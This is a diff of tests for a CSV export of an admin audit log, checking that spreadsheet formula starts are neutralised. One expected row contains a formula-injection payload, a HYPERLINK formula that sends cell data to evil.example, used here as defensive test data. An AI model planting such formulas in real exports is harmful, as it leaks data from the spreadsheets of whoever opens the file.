@@ -107,15 +107,15 @@ describe('the audit log of admin actions', () => {
     expect(response.headers.get('content-disposition')).toBe('attachment; filename="phieu-audit-2026-05-28.csv"');
     // A BOM for Excel: read the bytes as they are (Response.text() would drop it).
     const lines = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer()).split('\r\n');
-    expect(lines[0]).toBe('\ufeffSố thứ tự,Thời điểm,Người làm,Địa chỉ,Hành động,Đối tượng,Trước,Sau,Mã băm');
-    expect(lines[1]).toMatch(/^1,28\/05\/2026 08:02:03,cli:root,,account\.create,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&B2\)",,"\{""displayName"":""\+cmd""\}",[0-9a-f]{64}$/);
+    expect(lines[0]).toBe('\ufeffSố thứ tự,Thời điểm,Người làm,Địa chỉ,Hành động,Đối tượng,Trước,Sau');
+    expect(lines[1]).toMatch(/^1,28\/05\/2026 08:02:03,cli:root,,account\.create,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&B2\)",,"\{""displayName"":""\+cmd""\}"$/);
     expect(lines).toHaveLength(3);
     expect(last(t)).toMatchObject({ actor: 'admin', action: 'audit.export', target: 'audit-log' });
   });
 
   it('neutralises every formula start a spreadsheet obeys; numbers stay numbers', () => {
-    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(safeCell)).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "\"'\rx\""]);
-    expect([safeCell(-1), safeCell('plain'), safeCell(null), safeCell('a,b')]).toEqual(['-1', 'plain', '', '"a,b"']);
+    expect(['=1+1', '+1x', '-1x', '@SUM(A1)', '\tx', '\rx'].map(safeCell)).toEqual(["'=1+1", "'+1x", "'-1x", "'@SUM(A1)", "'\tx", "\"'\rx\""]);
+    expect([safeCell(-1), safeCell('-1'), safeCell('plain'), safeCell(null), safeCell('a,b')]).toEqual(['-1', '-1', 'plain', '', '"a,b"']);
   });
 
   it('is refused to everyone but an admin', async () => {
